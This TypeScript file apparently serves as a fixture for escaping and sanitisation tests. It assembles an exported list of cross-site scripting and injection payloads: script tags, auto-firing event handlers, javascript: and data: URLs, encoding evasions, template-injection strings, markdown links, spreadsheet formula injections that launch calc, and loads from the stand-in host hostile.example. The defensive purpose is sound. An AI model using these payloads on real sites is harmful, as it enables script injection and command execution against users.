/*
 * Texts that a browser would run if some screen, mail or answer took them for something else than text. Each calls
 * `alert`, or loads from `hostile.example`, so that it is noticed. None is longer than a name may be.
 */

const RUN = 'alert(1)'

const scripts = [
  `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<script >${RUN}</script >`, `<script/x>${RUN}</script>`, `<script\n>${RUN}</script\n>`,
  `<script src=//hostile.example/a.js></script>`, `<script src="data:text/javascript,${RUN}"></script>`, `<script type=module>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<<script>${RUN}//<</script>`, `<script>${RUN}`, `<script nonce="">${RUN}</script>`,
  `<script async src="/images/x"></script>`, `<svg><script>${RUN}</script></svg>`, `<svg><script href="data:,${RUN}"/></svg>`,
  `<math><script>${RUN}</script></math>`, `<noscript><p title="</noscript><script>${RUN}</script>">`, `<template><script>${RUN}</script></template>`,
  `<xml><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script></xml>`, `<script type="importmap">{"imports":{"a":"//hostile.example"}}</script>`,
]

/** Elements that run a handler without anybody touching them, and some that wait for a touch. */
const handlers = [
  ['img src=x', 'onerror'], ['img src=/favicon.ico', 'onload'], ['svg', 'onload'], ['body', 'onload'], ['body', 'onpageshow'], ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'], ['textarea autofocus', 'onfocus'], ['details open', 'ontoggle'], ['video><source', 'onerror'], ['audio src=x', 'onerror'],
  ['iframe', 'onload'], ['object data=x', 'onerror'], ['embed src=/', 'onload'], ['marquee', 'onstart'], ['style', 'onload'], ['link rel=stylesheet href=x', 'onerror'],
  ['a href=# autofocus', 'onfocus'], ['div tabindex=0 autofocus', 'onfocus'], ['p', 'onmouseover'], ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['x style="animation:a"', 'onanimationstart'], ['button autofocus', 'onfocus'], ['form', 'onformdata'], ['dialog open', 'onclose'],
].flatMap(([element, event]) => [`<${element} ${event}=${RUN}>`, `<${element}/${event}="${RUN}"//`])

const breakOuts = ['"', "'", '`', '">', "'>", '"/>', '--></p>', '</textarea>', '</title>', '</style>', '</select>', '</svg>'].flatMap((end) => [
  `${end}<img src=x onerror=${RUN}>`,
  `${end} onfocus=${RUN} autofocus x=${end}`,
])

const addresses = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\nscript:${RUN}`, `java\tscript:${RUN}`, `\u0001javascript:${RUN}`, ` javascript:${RUN}`, `javascript://%0a${RUN}`,
  `javascript&colon;${RUN}`, `&#106;avascript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`, `vbscript:${RUN}`, `blob:${RUN}`, `view-source:javascript:${RUN}`,
  '//hostile.example/a.png', 'https://hostile.example/pixel.gif', '\\\\hostile.example\\a', `<a href="javascript:${RUN}">x</a>`, `<a href=" &#14; javascript:${RUN}">x</a>`,
  `<a xlink:href="javascript:${RUN}">x</a>`, `<iframe src="javascript:${RUN}">`, `<iframe srcdoc="<script>${RUN}</script>">`, `<object data="javascript:${RUN}">`,
]

const insideScripts = [
  `</script><script>${RUN}</script>`, `</ScRiPt ><script>${RUN}</script>`, `<!--<script>`, `<!--<script>${RUN}//-->`, `--!><img src=x onerror=${RUN}>`, `]]><script>${RUN}</script>`,
  `"};${RUN};//`, `'};${RUN};//`, `\\"};${RUN};//`, `\\';${RUN};//`, `');${RUN};('`, '");' + RUN + ';("', '`;' + RUN + ';`', '${' + RUN + '}', `\u2028${RUN}\u2029`, `a\u2028";${RUN};//`,
  `*/${RUN}/*`, `\\u003c/script>\\u003cscript>${RUN}`, `\\x3cscript>${RUN}`, '\\', '\\\\"', `"],["_1",{"_2":"${RUN}"}]`, `\n"}]);${RUN};//`, `</head><body onload=${RUN}>`, '{"$$typeof":"react.element"}',
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`, '["$","script",null,{"children":"alert(1)"}]', '__proto__', '[object Object]',
]

const encoded = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`, `&#60;script&#62;${RUN}&#60;/script&#62;`, `&#x3c;img src=x onerror=${RUN}&#x3e;`, `&amp;lt;script&amp;gt;${RUN}`, `%3Cscript%3E${RUN}%3C/script%3E`,
  `%253Cscript%253E${RUN}`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `＜script＞${RUN}＜/script＞`, `﹤img src=x onerror=${RUN}﹥`, `\u00adjavascript:${RUN}`,
  `<\u200bscript>${RUN}</script>`, `<img\u000csrc=x\u000conerror=${RUN}>`, `<img\u000bsrc=x onerror=${RUN}>`, `<img src=x onerror\u00a0=${RUN}>`, `<img src=x o\u00adnerror=${RUN}>`,
  `\u202e>tpircs/<)1(trela>tpircs<`, `\ufeff<script>${RUN}</script>`, `<img src=x onerror=&#97;lert(1)>`, `<img src=x onerror="\\u0061lert(1)">`, `<svg onload=&#x61;&#x6c;ert(1)>`,
  `ʺ><img src=x onerror=${RUN}>`, `&quot;><img src=x onerror=${RUN}>`, `&apos; onfocus=${RUN} autofocus x=&apos;`, '&lt', '&#0;&#xD800;',
]

const templates = [
  `{{${RUN}}}`, `{{constructor.constructor("${RUN}")()}}`, `{{{${RUN}}}}`, '{{7*7}}', '#{7*7}', '<%= 7*7 %>', `<%= ${RUN} %>`, '[[7*7]]', '@(7*7)', '{% raw %}', `:style="${RUN}"`, `v-on:load="${RUN}"`, `ng-init="${RUN}"`,
]

const marked = [
  `[x](javascript:${RUN})`, `![x](https://hostile.example/a.png)`, `![x](x"onerror="${RUN})`, `<javascript:${RUN}>`, `[x]: javascript:${RUN}`, `[url=javascript:${RUN}]x[/url]`, `[img]https://hostile.example/a.png[/img]`,
  '```html\n<script>' + RUN + '</script>\n```', `=HYPERLINK("https://hostile.example","x")`, `=cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`,
]

const framed = [
  '<style>@import "//hostile.example/a.css";</style>', '<link rel=stylesheet href=//hostile.example/a.css>', '<link rel=preload as=image href=//hostile.example/a>', `<div style="background:url(javascript:${RUN})">`,
  '<p style="background:url(//hostile.example/a.png)">', `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, '<meta http-equiv=refresh content="0;url=//hostile.example">', '<base href=//hostile.example/>',
  `<form action=javascript:${RUN}><input type=submit>`, `<form action=//hostile.example><button>`, `<button formaction=javascript:${RUN}>x</button>`, '<iframe src=//hostile.example></iframe>', '<img src=//hostile.example/a.png>',
  '<form id=document><input name=cookie>', '<img name=getElementById>', '<a id=__reactRouterContext href=x>', '<input name=attributes>', '<textarea>', '<plaintext>', '<!--', '<title>', '<![CDATA[', '<?xml version="1.0"?>', '<portal src=//hostile.example>',
  '<embed src=//hostile.example/a.swf>', '<video poster=//hostile.example/a.png>', '<audio src=//hostile.example/a.mp3 autoplay>',
]

const byKind = [scripts, handlers, breakOuts, addresses, insideScripts, encoded, templates, marked, framed]

/** All of them, the kinds mixed, so that the first few have some of each. */
export const hostileTexts: readonly string[] = Array.from({ length: Math.max(...byKind.map(({ length }) => length)) }, (_, index) =>
  byKind.flatMap((kind) => kind[index] ?? []),
).flat()
